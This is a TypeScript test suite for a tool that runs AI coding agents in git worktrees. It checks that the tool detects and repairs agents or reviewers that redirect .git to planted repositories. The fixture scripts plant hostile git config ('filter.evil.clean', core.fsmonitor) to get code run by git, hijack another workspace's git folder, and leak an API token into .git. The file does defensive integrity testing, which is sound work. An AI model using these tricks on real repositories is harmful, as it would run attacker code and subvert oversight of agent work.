  it("puts back a worktree .git an agent pointed at a repository of its own, before git reads that repository's config", async () => {
    // The agent's repository is on the workspace's branch name, so that its HEAD looks right; its
    // config has a clean filter (run by `git add`) and an fsmonitor that leave a mark.
    const test = await integrityRepo({
      redirect: `fake="$HOME/fake-repo"
git init -q "$fake"
${markProgram("fake-config-ran")}
git -C "$fake" config filter.evil.clean "$HOME/mark.sh"
git -C "$fake" config core.fsmonitor "$HOME/mark.sh"
git -C "$fake" symbolic-ref HEAD "$(git symbolic-ref HEAD)"
echo '* filter=evil' > .gitattributes
echo ok > ok.txt
printf 'gitdir: %s/.git\\n' "$fake" > .git`,
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "redirect");
    expect(workspace.status).toBe("failed");
    expect(workspace.failure?.message).toContain(
      `the agent pointed the worktree's .git at "${path.join(test.home, "fake-repo", ".git")}" instead of`,
    );
    const dotGit = readFileSync(path.join(workspace.path, ".git"), "utf8");
    expect(dotGit).toMatch(/^gitdir: .*\.git\/worktrees\/[^/]+\n$/);
    expect(dotGit).toContain(await realpath(test.root));
    // The user's next look at the workspace reads the repository's own config.
    expect(await test.git("-C", workspace.path, "status", "--short")).toContain("ok.txt");
    expect(existsSync(path.join(test.home, "fake-config-ran"))).toBe(false);
    expect(await test.git("-C", path.join(test.home, "fake-repo"), "rev-list", "--all")).toBe("");
  });

  it("looks at the link again before the commit when a check script ran the workspace's code", async () => {
    // The agent leaves a test that redirects .git; the check runs it after the agent's step.
    const test = await integrityRepo(
      {
        sneaky: `printf 'git init -q "$HOME/late-repo"\\nprintf "gitdir: %%s/.git\\\\n" "$HOME/late-repo" > .git\\n' > check.sh`,
      },
      { scripts: { check: "sh check.sh" } },
    );
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "sneaky");
    expect(workspace.failure?.message).toContain(
      `the agent pointed the worktree's .git at "${path.join(test.home, "late-repo", ".git")}"`,
    );
    expect(workspace.failure?.message).toContain("nothing was committed");
    expect(await test.git("rev-list", "--count", "main..conductor/sneaky")).toBe("0");
    expect(await test.git("-C", path.join(test.home, "late-repo"), "rev-list", "--all")).toBe("");
  });

  it("puts back a .git the agent made a link to another workspace's .git", async () => {
    const test = await integrityRepo({
      other: "echo other > other.txt",
      linker: `sleep 1; rm .git; ln -s "$(dirname "$PWD")/other/.git" .git; echo l > l.txt`,
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const linker = workspaceOf(latestSummary(test.root), "linker");
    expect(linker.failure?.message).toContain(
      "the agent pointed the worktree's .git at a symbolic link",
    );
    expect(readFileSync(path.join(linker.path, ".git"), "utf8")).toMatch(/worktrees\/linker\n$/);
    expect(await test.git("ls-tree", "-r", "--name-only", "conductor/other")).not.toContain(
      "l.txt",
    );
  });

  it("puts back a .git that git reads differently from its text (a second space after gitdir:)", async () => {
    // git keeps the space: "<worktree>/ <admin>", a repository the agent made there, on the
    // workspace's branch, sharing the repository's objects, with a clean filter of its own.
    const test = await integrityRepo({
      spaced: `admin=$(git rev-parse --absolute-git-dir)
common=$(git rev-parse --path-format=absolute --git-common-dir)
branch=$(git symbolic-ref HEAD)
fake="./ $admin"
mkdir -p "$fake"
git init -q --bare "$fake"
git -C "$fake" config core.bare false
echo "$common/objects" > "$fake/objects/info/alternates"
git -C "$fake" update-ref "$branch" "$(git rev-parse HEAD)"
git -C "$fake" symbolic-ref HEAD "$branch"
cp "$admin/index" "$fake/index"
${markProgram("spaced-config-ran")}
git -C "$fake" config filter.evil.clean "$HOME/mark.sh"
echo '* filter=evil' > .gitattributes
echo ok > ok.txt
printf 'gitdir:  %s\\n' "$admin" > .git`,
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "spaced");
    expect(workspace.failure?.message).toContain("the agent pointed the worktree's .git at");
    expect(existsSync(path.join(test.home, "spaced-config-ran"))).toBe(false);
    expect(await test.git("rev-list", "--count", "main..conductor/spaced")).toBe("0");
  });

  it("keeps what the agent wrote in .git out of the agent log and the output when it holds a secret or escapes", async () => {
    const test = await integrityRepo({
      leak: `. ./.env.local; printf 'gitdir: /x/%s\\033[2J\\n' "$API_TOKEN" > .git`,
    });
    const result = await run(test);
    const workspace = workspaceOf(latestSummary(test.root), "leak");
    expect(workspace.status).toBe("failed");
    const log = readFileSync(
      path.join(
        test.root,
        ".conductor",
        "runs",
        newestRunId(test.root) as string,
        "workspaces",
        "leak",
        "agent.log",
      ),
      "utf8",
    );
    expect(log).toContain("the agent pointed the worktree's .git at");
    for (const text of [log, result.all, workspace.failure?.message ?? ""]) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain("\u001b[2J");
    }
  });

  it("puts back a .git a command reviewer redirected, before conductor's git reads the reviewer's repository", async () => {
    const test = await integrityRepo(
      { reviewed: "echo ok > ok.txt" },
      {
        review: "auto",
        agent: {
          kind: "command",
          command: "true",
          review_command: `fake="$HOME/review-repo"
git init -q "$fake"
echo "$(git rev-parse --path-format=absolute --git-common-dir)/objects" > "$fake/.git/objects/info/alternates"
git -C "$fake" update-ref "$(git symbolic-ref HEAD)" "$(git rev-parse HEAD)"
git -C "$fake" symbolic-ref HEAD "$(git symbolic-ref HEAD)"
cp "$(git rev-parse --git-path index)" "$fake/.git/index"
${markProgram("review-config-ran")}
git -C "$fake" config filter.evil.clean "$HOME/mark.sh"
echo '* filter=evil' > "$fake/.git/info/attributes"
printf 'gitdir: %s/.git\\n' "$fake" > .git
echo '{"findings": [], "overall_correctness": "patch is correct", "overall_explanation": "fine", "overall_confidence_score": 0.9}'`,
        },
      },
    );
    const result = await run(test);
    const workspace = workspaceOf(latestSummary(test.root), "reviewed");
    expect(workspace.review?.failure?.message, result.all).toContain(
      "the reviewer pointed the worktree's .git at",
    );
    expect(existsSync(path.join(test.home, "review-config-ran"))).toBe(false);
    expect(readFileSync(path.join(workspace.path, ".git"), "utf8")).not.toContain("review-repo");
  });

  it("puts back a .git redirected by the agent of a killed run before the resume runs git there, and does not retry", async () => {
    const test = await integrityRepo(
      {
        killed: `if [ -e "$HOME/agent-started" ]; then echo ok > ok.txt; exit 0; fi
git init -q "$HOME/fake"
printf 'gitdir: %s/.git\\n' "$HOME/fake" > .git
touch "$HOME/agent-started"; sleep 300`,
      },
      { retries: 1 },
    );
    const child = startConductor(["run", "--output", "plain"], { cwd: test.root, home: test.home });
    await waitFor(() => existsSync(path.join(test.home, "agent-started")), 30_000, "the agent");
    child.kill("SIGKILL");
    await child;
    killLeftovers(newestRunId(test.root));
    const resumed = await run(test, ["--resume"]);
    expect(resumed.exitCode, resumed.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "killed");
    expect(workspace.failure?.message).toContain(
      `the agent pointed the worktree's .git at "${path.join(test.home, "fake", ".git")}"`,
    );
    expect(resumed.all).not.toMatch(/retrying/);
    expect(readFileSync(path.join(workspace.path, ".git"), "utf8")).toContain(
      path.join(".git", "worktrees"),
    );
    expect(await test.git("-C", path.join(test.home, "fake"), "rev-list", "--all")).toBe("");
  });

  it("fails an agent that points its worktree at another workspace's git folder, and commits nothing on that workspace's branch", async () => {
    const test = await integrityRepo({
      other: "sleep 2; echo other > other.txt",
      thief: `own=$(git rev-parse --absolute-git-dir)
for folder in "$(git rev-parse --git-common-dir)"/worktrees/*; do [ "$folder" -ef "$own" ] || stolen=$folder; done
printf 'gitdir: %s\\n' "$stolen" > .git
echo thief > thief.txt`,
    });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(1);
    const summary = latestSummary(test.root);
    expect(workspaceOf(summary, "thief").failure?.message).toContain(
      "the agent pointed the worktree's .git at",
    );
    expect(workspaceOf(summary, "other").status).toBe("succeeded");
    expect(await test.git("show", "conductor/other:other.txt")).toBe("other");
    const files = await test.git("ls-tree", "-r", "--name-only", "conductor/other");
    expect(files).not.toContain("thief.txt");
  });

  it("does not mistake other workspaces committing in parallel for a moved ref", async () => {
    const tasks: Record<string, string> = {};
    for (let index = 0; index < 6; index++) {
      tasks[`busy-${index}`] =
        `for i in 1 2 3; do echo $i >> w.txt; git add w.txt; git commit -qm "step $i"; done`;
    }
    const test = await integrityRepo(tasks, { concurrency: 6 });
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(0);
    for (const name of Object.keys(tasks)) {
      expect(await test.git("show", `conductor/${name}:w.txt`)).toBe("1\n2\n3");
    }
  });
});

describe("commands after the run put back a .git redirected since the run checked it", () => {
  // The run checked the link after the agent; a process the agent left behind (or the agent of
  // a killed conductor) may change it later. Every command that runs git in the worktree, or
  // starts a program that does, puts it back first and says so.
  it("checks, merge, archive, exec, open, spotlight, review, continue and a second run never run the planted repository's config", async () => {
    const test = await integrityRepo({ later: "echo ok > ok.txt" }, reviewedBy("true"));
    const first = await run(test);
    expect(first.exitCode, first.all).toBe(0);
    const worktree = workspaceOf(latestSummary(test.root), "later").path;
    const linkAsGitMadeIt = readFileSync(path.join(worktree, ".git"), "utf8");
    const fake = path.join(test.home, "late-fake");
    await execa("git", ["init", "-q", fake], { env: gitEnv(test.home) });
    writeFileSync(
      path.join(test.home, "mark.sh"),
      '#!/bin/sh\necho ran >> "$HOME/late-config-ran"\ncat\n',
      { mode: 0o755 },
    );
    await gitIn(test, fake, "config", "filter.evil.clean", path.join(test.home, "mark.sh"));
    await gitIn(test, fake, "config", "core.fsmonitor", path.join(test.home, "mark.sh"));
    writeFileSync(path.join(worktree, ".gitattributes"), "* filter=evil\n");
    const commands: string[][] = [
      ["checks", "later"],
      ["merge", "later"],
      ["archive", "later"],
      ["exec", "later", "--", "git", "status", "--short"],
      ["open", "later"],
      ["spotlight", "later"],
      ["review", "later"],
      ["continue", "later", "again"],
      ["run", "--output", "plain"],
    ];
    for (const args of commands) {
      const story = `conductor ${args.join(" ")}`;
      writeFileSync(path.join(worktree, ".git"), `gitdir: ${path.join(fake, ".git")}\n`);
      const result = await conductor(args, { cwd: test.root, home: test.home });
      if (args[0] === "spotlight")
        await conductor(["spotlight", "--off"], { cwd: test.root, home: test.home });
      expect(existsSync(path.join(test.home, "late-config-ran")), `${story}\n${result.all}`).toBe(
        false,
      );
      expect(result.stderr, story).toContain(
        `conductor: warning: workspace later: the agent pointed the worktree's .git at "${path.join(fake, ".git")}" instead of`,
      );
      // A second run retires the workspace: its worktree is removed, and a new one takes its place.
      if (args[0] !== "run") {
        expect(readFileSync(path.join(worktree, ".git"), "utf8"), story).toBe(linkAsGitMadeIt);
      }
    }
    // What stood there is kept in the workspace's run folder, once per repair.
    const runFolder = path.join(test.root, ".conductor", "runs");
    const kept = filesContaining(runFolder, path.join(fake, ".git"));
    expect(kept.filter((file) => file.endsWith(`${path.sep}dot-git`))).toHaveLength(
      commands.length,
    );
    expect(await test.git("-C", fake, "rev-list", "--all")).toBe("");
  });
});

describe("a command run while the agent works leaves a changed link to the run's check", () => {
  it("refuses to run anything in a workspace whose .git its running agent redirected, and the run still fails it", async () => {
    const test = await integrityRepo({
      busy: `git init -q "$HOME/busy-fake"
printf 'gitdir: %s/.git\\n' "$HOME/busy-fake" > .git
touch "$HOME/redirected"
while [ ! -e "$HOME/go-on" ]; do sleep 0.05; done
echo ok > ok.txt`,
    });
    const child = startConductor(["run", "--output", "plain"], { cwd: test.root, home: test.home });
    await waitFor(() => existsSync(path.join(test.home, "redirected")), 30_000, "the agent");
    const worktree = worktreeOf(test, "busy");
    const opened = await conductor(["exec", "busy", "--", "true"], {
      cwd: test.root,
      home: test.home,
    });
    expect(opened.exitCode, opened.all).toBe(1);
    expect(opened.stderr).toContain(
      `conductor: workspace busy: the worktree's .git points at "${path.join(test.home, "busy-fake", ".git")}" instead of`,
    );
    expect(opened.stderr).toContain("conductor runs nothing there while an agent of run");
    // Left as the agent made it, for the run's check to find.
    expect(readFileSync(path.join(worktree, ".git"), "utf8")).toContain("busy-fake");
    writeFileSync(path.join(test.home, "go-on"), "");
    const result = await child;
    expect(result.exitCode, result.all).toBe(1);
    const workspace = workspaceOf(latestSummary(test.root), "busy");
    expect(workspace.status).toBe("failed");
    expect(workspace.failure?.message).toContain("the agent pointed the worktree's .git at");
  });

  it("also while a reviewer works there: the review still fails for the link its reviewer changed", async () => {
    const test = await integrityRepo(
      { reviewed: "echo ok > ok.txt" },
      reviewedBy(`git init -q "$HOME/review-fake"
printf 'gitdir: %s/.git\\n' "$HOME/review-fake" > .git
touch "$HOME/redirected"
while [ ! -e "$HOME/go-on" ]; do sleep 0.05; done`),
    );
    const child = startConductor(["run", "--output", "plain"], { cwd: test.root, home: test.home });
    await waitFor(() => existsSync(path.join(test.home, "redirected")), 30_000, "the reviewer");
    const opened = await conductor(["exec", "reviewed", "--", "true"], {
      cwd: test.root,
      home: test.home,
    });
    expect(opened.exitCode, opened.all).toBe(1);
    expect(opened.stderr).toContain("conductor runs nothing there while an agent of run");
    writeFileSync(path.join(test.home, "go-on"), "");
    const result = await child;
    const workspace = workspaceOf(latestSummary(test.root), "reviewed");
    expect(workspace.review?.failure?.message, result.all).toContain(
      "the reviewer pointed the worktree's .git at",
    );
  });
});

describe("resume keeps copied files", () => {
  it("restores a copied file that is not gitignored after resetting the worktree for a fresh try", async () => {
    const test = await integrityRepo({
      flaky: [
        'test -f .env.shared || { echo ".env.shared is missing" >&2; exit 3; }',
        'if [ ! -e "$HOME/first-try" ]; then touch "$HOME/first-try"; echo scratch > scratch.txt; exit 1; fi',
        "echo done > done.txt",
      ].join("; "),
    });
    const first = await run(test);
    expect(first.exitCode, first.all).toBe(1);
    const resumed = await run(test, ["--resume"]);
    expect(resumed.exitCode, resumed.all).toBe(0);
    const worktree = worktreeOf(test, "flaky");
    expect(readFileSync(path.join(worktree, ".env.shared"), "utf8")).toContain(SHARED_SECRET);
    expect(existsSync(path.join(worktree, "scratch.txt"))).toBe(false);
    expect(await pathsInHistory(test, "conductor/flaky")).toEqual(["done.txt"]);
  });
});

describe("resume clears a stale index.lock", () => {
  it("removes an index.lock no live process holds, and waits for one a live process holds", async () => {
    const script = [
      'if [ ! -e "$HOME/first-try-$CONDUCTOR_TASK_ID" ]; then touch "$HOME/first-try-$CONDUCTOR_TASK_ID"; exit 1; fi',
      "echo done > done.txt",
    ].join("; ");
    const test = await integrityRepo({ stale: script, held: script });
    expect((await run(test)).exitCode).toBe(1);
    const lockOf = async (name: string) =>
      (
        await gitIn(
          test,
          worktreeOf(test, name),
          "rev-parse",
          "--path-format=absolute",
          "--git-path",
          "index.lock",
        )
      ).trim();
    const staleLock = await lockOf("stale");
    const heldLock = await lockOf("held");
    // A git killed half way leaves its lock behind, held by nobody.
    writeFileSync(staleLock, "");
    // A live git holds its lock open until it is done, then removes it.
    writeFileSync(heldLock, "");
    const saw = path.join(test.home, "holder-saw");
    const holder = execa("sh", [
      "-c",
      `exec 3>>"${heldLock}"; sleep 3; test -e "${heldLock}" && echo held > "${saw}"; rm -f "${heldLock}"`,
    ]);
    const started = Date.now();
    const resumed = await run(test, ["--resume"]);
    await holder;
    expect(resumed.exitCode, resumed.all).toBe(0);
    expect(existsSync(staleLock)).toBe(false);
    expect(readFileSync(saw, "utf8").trim()).toBe("held");
    expect(Date.now() - started).toBeGreaterThanOrEqual(2_500);
    for (const name of ["stale", "held"]) {
      expect(await test.git("show", `conductor/${name}:done.txt`)).toBe("done");
    }
  });
});

describe("the real codex, given full access, commits a copied file and detaches HEAD", () => {
  let server: ModelServer;
  beforeAll(async () => {
    server = await startModelServer({
      script: sequenceScript([
        {
          kind: "exec",
          cmd: 'git add -f .env.local && git commit -qm "codex saves its env" && git checkout -q --detach && echo codex > codex.txt',
        },
        { kind: "message", text: "Committed and detached." },
      ]),
    });
  });
  afterAll(async () => {
    await server?.close();
  });

  it("ends with codex's work on the workspace branch, the worktree on it, and no secret in its history", async () => {
    const codexHome = await codexHomeForTest();
    const test = await integrityRepo(
      {},
      {
        env: { CODEX_HOME: codexHome },
        agent: {
          kind: "codex",
          model: SCRIPTED_MODEL,
          sandbox: "danger-full-access",
          timeout: "2m",
          config: codexProviderConfig(server.url),
        },
        tasks: [{ id: "codex", prompt: "Save your environment and work detached." }],
      },
    );
    const result = await run(test);
    expect(result.exitCode, result.all).toBe(0);
    expect(server.requests.length).toBeGreaterThan(0);
    const branch = "conductor/codex";
    expect(await test.git("show", `${branch}:codex.txt`)).toBe("codex");
    expect(await pathsInHistory(test, branch)).toEqual(["codex.txt"]);
    expect(await historyPatch(test, branch)).not.toContain(SECRET);
    expect(await headOf(test, worktreeOf(test, "codex"))).toBe(`refs/heads/${branch}`);
    const workspace = workspaceOf(latestSummary(test.root), "codex");
    expect(workspace.commit).toBe((await test.git("rev-parse", branch)).trim());
  });
});
